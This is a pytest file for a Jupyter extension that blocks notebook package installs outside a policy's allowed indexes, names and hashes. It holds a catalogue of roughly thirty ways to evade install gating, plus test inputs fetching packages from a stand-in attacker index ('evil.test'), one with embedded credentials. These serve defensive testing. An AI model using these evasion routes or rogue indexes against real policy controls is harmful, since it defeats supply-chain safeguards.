"""What cells install is read before it starts, recorded, and held to the policy's `[install]`, by whatever way a cell asks for it."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest
from live_kernel import LiveKernel

from tests.conftest import Person

INSTALL = '\n[install]\nrequire-hashes = true\nindexes = ["https://packages.test/simple"]\nallow = ["pandas", "scikit-learn"]\n'
# An installer that only says that it ran: the gate stands before it, so no test needs an index.
INSTALLER = "#!/bin/sh\necho installer-ran >> {log}\n"


def person(base: Path, mode: str) -> Person:
    base.mkdir()
    (base / "project").mkdir()
    (base / "bin").mkdir()
    made = Person("ada", base / "home", base / "project")
    made.init(mode)
    with open(made.root / "mlsc.toml", "a", encoding="utf-8") as file:
        file.write(INSTALL)
    assert made.mlsc("policy", "trust", "--yes").returncode == 0
    for name in ("pip", "uv"):
        (base / "bin" / name).write_text(INSTALLER.format(log=base / "ran.log"))
        (base / "bin" / name).chmod(0o755)
    return made


@pytest.fixture(scope="module")
def enforcing(tmp_path_factory: pytest.TempPathFactory) -> Person:
    return person(tmp_path_factory.mktemp("installs") / "enforce", "enforce")


def begin(start: Callable[..., LiveKernel], ada: Person) -> LiveKernel:
    kernel = start(ada)
    assert kernel.run("%load_ext jupyter_mlsc").error is None
    setting = f"import os, subprocess, asyncio\nos.environ['PATH'] = {str(ada.root.parent / 'bin')!r} + os.pathsep + os.environ['PATH']"
    assert kernel.run(setting).error is None
    return kernel


@pytest.fixture(scope="module")
def kernel(enforcing: Person, start: Callable[..., LiveKernel]) -> LiveKernel:
    return begin(start, enforcing)


def ran(ada: Person) -> int:
    log = ada.root.parent / "ran.log"
    return log.read_text().count("installer-ran") if log.exists() else 0


WAYS = {
    "a line for the shell": "!pip install requests",
    "a captured line": "told = !pip install requests",
    "the magic": "%pip install requests",
    "a cell for the shell": "%%bash\npip install requests",
    "a cell for the other shell": "%%sh\ncd /tmp && \\\n  pip install requests",
    "a cell for a program": "%%script env bash -e\n# comment\nfor p in requests; do\n  pip install $p > log 2>&1\ndone",
    "a cell that is left in the background": "%%bash --bg\ntrue; pip install requests",
    "a cell in a cell": "%%capture\n%%bash\npip install requests",
    "the magic's function": "get_ipython().run_cell_magic('bash', '', 'pip install requests')",
    "what a shell is told": "subprocess.run(['bash'], input='pip install requests', text=True)",
    "a shell in a shell": "!bash -c \"sh -c 'pip install requests'\"",
    "a script": "open('setup.sh', 'w').write('pip install requests')\n!bash ./setup.sh",
    "a cell for the system": "%%!\ntrue\npip install requests",
    "os.system": "os.system('pip install requests')",
    "os.popen": "os.popen('pip install requests').read()",
    "a subprocess": "subprocess.run(['pip', 'install', 'requests'])",
    "a subprocess of a shell": "subprocess.run('true && pip install requests', shell=True)",
    "another folder's pip": "subprocess.run([os.environ['PATH'].split(os.pathsep)[0] + '/pip', 'install', 'requests'])",
    "an asynchronous subprocess": "await (await asyncio.create_subprocess_exec('pip', 'install', 'requests')).wait()",
    "posix_spawn": "os.posix_spawnp('pip', ['pip', 'install', 'requests'], dict(os.environ))",
    "another installer": "!uv pip install requests",
    "a variable of the shell": "!P=requests; pip install --require-hashes --index-url https://packages.test/simple $P",
    "an address": "!pip install --require-hashes https://packages.test/requests-1.0-py3-none-any.whl",
    "an editable folder": "!pip install --require-hashes --index-url https://packages.test/simple -e .",
    "no hashes": "!pip install --index-url https://packages.test/simple pandas",
    "no index": "!pip install --require-hashes pandas",
    "one more index": "!pip install --require-hashes --index-url https://packages.test/simple --extra-index-url https://evil.test/simple pandas",
    "names in a file": "open('more.txt', 'w').write('requests==1.0 --hash=sha256:ab')\n!pip install --index-url https://packages.test/simple -r more.txt",
}


@pytest.mark.parametrize("way", WAYS)
def test_what_the_policy_does_not_accept_is_not_installed(way: str, kernel: LiveKernel, enforcing: Person) -> None:
    before = ran(enforcing)
    done = kernel.run(WAYS[way])
    assert done.error == "BlockedInstallError", done.traceback
    assert "the policy does not let this notebook install" in done.traceback
    assert "next:" in done.traceback
    assert ran(enforcing) == before


ACCEPTED = {
    "by name": "!pip install --require-hashes --index-url https://packages.test/simple pandas Scikit_Learn",
    "by a file": "open('fine.txt', 'w').write('pandas==2.1 --hash=sha256:ab\\n')\n!pip install --index-url https://packages.test/simple/ -r fine.txt",
    "nothing at all": "!pip list",
    "a word in a sentence": "!echo pip install requests",
    "a cell for the shell": "%%bash\n# pip install requests\npip install --require-hashes --index-url https://packages.test/simple pandas > log 2>&1",
}


@pytest.mark.parametrize("way", ACCEPTED)
def test_what_the_policy_accepts_is_installed(way: str, kernel: LiveKernel, enforcing: Person) -> None:
    before = ran(enforcing)
    assert kernel.run(ACCEPTED[way]).error is None
    assert ran(enforcing) == before + (way != "a word in a sentence")


def test_warn_installs_and_tells_and_the_record_keeps_what_was_asked(tmp_path: Path, start: Callable[..., LiveKernel]) -> None:
    ada = person(tmp_path / "warn", "warn")
    kernel = begin(start, ada)
    done = kernel.run("!pip install -i https://joe:hunter2@evil.test/simple 'requests>=2'")
    assert done.error is None
    assert ran(ada) == 1
    assert "https://evil.test/simple is none of the indexes that the policy allows" in done.stderr
    run = kernel.run("%mlsc_status").text.split("run:")[1].split()[0]
    assert kernel.run("%unload_ext jupyter_mlsc").error is None
    shown = ada.mlsc("log", "show", "--json")
    (end,) = [each for each in json.loads(shown.stdout) if each.get("run") == run and each.get("phase") == "end"]
    (install,) = end["installs"]
    assert (install["installer"], install["packages"], install["verdict"]) == ("pip", ["requests>=2"], "warn")
    assert install["indexes"] == ["https://evil.test/simple"]
    assert "hunter2" not in shown.stdout
